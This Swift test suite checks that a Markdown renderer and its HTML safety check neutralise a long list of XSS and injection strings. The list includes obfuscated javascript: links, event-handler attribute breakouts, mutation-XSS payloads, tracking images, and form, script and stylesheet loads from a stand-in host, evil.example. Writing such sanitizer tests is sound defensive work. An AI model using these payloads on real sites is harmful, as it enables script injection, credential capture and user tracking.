import Portico
import PorticoTesting
import Testing

@testable import Markdown

/// Ways to get a script, a foreign image or a form of one's own into a page, as Markdown and as HTML that a mistake of
/// the writer made.
@Suite struct AttackTests {
    static let shapes = [
        // Addresses.
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](  javascript:alert(1))",
        "[a](<java\tscript:alert(1)>)",
        "[a](java&Tab;script:alert(1))", "[a](java&NewLine;script:alert(1))", "[a](&#1;javascript:alert(1))",
        "[a](javascript&colon;alert(1))",
        "[a](&#x6A;avascript:alert(1))", "[a](&#0000106avascript:alert(1))", "[a](java\\script:alert(1))",
        "[a](%6Aavascript:alert(1))",
        "[a](vbscript:msgbox(1))", "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[a](file:///etc/passwd)", "[a](blob:https://x/y)", "[a](view-source:x)", "[a](feed:javascript:alert(1))",
        "[a](ms-office:x)",
        "[a](\\\\evil.example)", "[a](/\\evil.example)", "[a](///evil.example)", "[a](http:\\\\evil.example)",
        "[a](https:evil)",
        "<javascript:alert(1)>", "<data:text/html,x>", "<java&#115;cript:alert(1)>",
        "[a][b]\n\n[b]: javascript:alert(1)",
        "[a](\"onclick=alert(1)//)", "[a](/b \"x\\\" onclick=alert(1) \")", "[a](/b 'x\" onmouseover=\"alert(1)')",
        "[a](/b (x\"><script>alert(1)</script>))",
        "http://a.example/\"onmouseover=\"alert(1)", "http://a.example/<script>alert(1)</script>",
        "www.a.example\"><img/src=x/onerror=alert(1)>",
        "a@b.example\"onclick=alert(1)", "[a](mailto:x@y.example?subject=\"><script>)",
        // Images.
        "![a](javascript:alert(1))", "![a](https://tracker.example/p.gif)", "![a](//tracker.example/p.gif)",
        "![a](\\/tracker.example/p.gif)",
        "![\"onerror=alert(1) x=\"](x)", "![a](x\"onerror=alert(1)\")", "![a](x 'y\" onerror=\"alert(1)')",
        "![a](data:image/svg+xml;base64,AA)",
        "[![a](javascript:x)](javascript:y)",
        // Nested links.
        "[a [b](javascript:x) c](/d)", "[https://x.example](javascript:alert(1))", "[[javascript:alert(1)]]",
        "[[a|<script>alert(1)</script>]]",
        "[[\"onclick=alert(1)|x]]", "[[Evil]]", "[[Evil|a]](javascript:x)",
        // Raw HTML.
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//",
        "<img src=\"x\" alt=\"`><script>alert(1)</script>\">",
        "<svg onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)>",
        "<embed src=//evil.example>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=/x target=_blank ping=//evil.example>x</a>",
        "<p style=\"background:url(//evil.example)\">x</p>", "<style>@import '//evil.example';</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>",
        "<body onload=alert(1)>",
        "<html onclick=x>",
        "<form action=//evil.example><input name=password><button formaction=javascript:x>go</button></form>",
        "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<input type=checkbox name=_event value=x form=portico>",
        "<textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><script>", "<video><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--> <img src=x onerror=alert(1)> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>", "<?xml version=1?><script>alert(1)</script>",
        "<!DOCTYPE x [<!ENTITY y \"z\">]>&y;",
        "<div id=portico name=x class=\"notice admin\">x</div>", "<a id=location><a name=cookie>",
        "</p></div></main><h1>x</h1>",
        "<table><tr><td><a href=x onclick=y>",
        "\u{0}<scr\u{0}ipt>alert(1)</script>", "<\u{0}script>alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u{FEFF}<script>alert(1)</script>",
        "\\<img src=x onerror=alert(1)\\>", "`<img src=x onerror=alert(1)>`",
        "``` \"><script>alert(1)</script>\nx\n```",
        "~~~ x\" onclick=\"y\nz\n~~~",
        "# <img src=x onerror=alert(1)>", "# a\" onclick=\"alert(1)", "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
        "- [ ] <img src=x onerror=alert(1)>",
        "- [ ] </label></li></ul><script>alert(1)</script>", "[^1]\n\n[^1]: <script>alert(1)</script>",
        "a\u{2028}<script>\u{2029}",
        "<a\u{C}href=javascript:x>y</a>",
    ]

    @Test(arguments: shapes)
    func markdownHoldsNoScript(source: String) {
        let renderer = MarkdownRenderer(tasks: .tickable, noteURL: { $0 == "Evil" ? "javascript:alert(1)" : nil })
        let rendered = renderer.render(source)
        #expect(rendered.problem == nil)
        #expect(SafetyCheck.problem(in: rendered.html.html) == nil)
    }

    @Test(arguments: shapes)
    func htmlThatIsNotWhatMarkdownIsWrittenAsIsRefused(source: String) {
        for html in [
            "<p>\(source)</p>", "<table>\(source)</table>", "<ul><li>\(source)</li></ul>\(source)",
            "<svg>\(source)</svg>", source,
        ]
        where HTMLGrammar.accepts(Array(html.utf8)) {
            #expect(SafetyCheck.problem(in: html) == nil)
            #expect(HTMLReading.isAsWritten(html))
            #expect(!html.contains("<script") && !html.contains("onerror="))
        }
    }
}
